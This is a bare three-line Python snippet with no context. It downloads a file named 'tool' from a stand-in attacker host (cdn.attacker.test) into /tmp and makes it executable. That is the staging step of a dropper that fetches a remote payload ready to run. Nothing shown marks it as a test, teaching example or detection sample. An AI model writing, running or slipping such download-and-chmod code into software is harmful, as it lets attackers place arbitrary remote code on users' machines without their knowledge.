import os, urllib.request
urllib.request.urlretrieve("https://cdn.attacker.test/tool", "/tmp/tool")
os.chmod("/tmp/tool", 0o755)
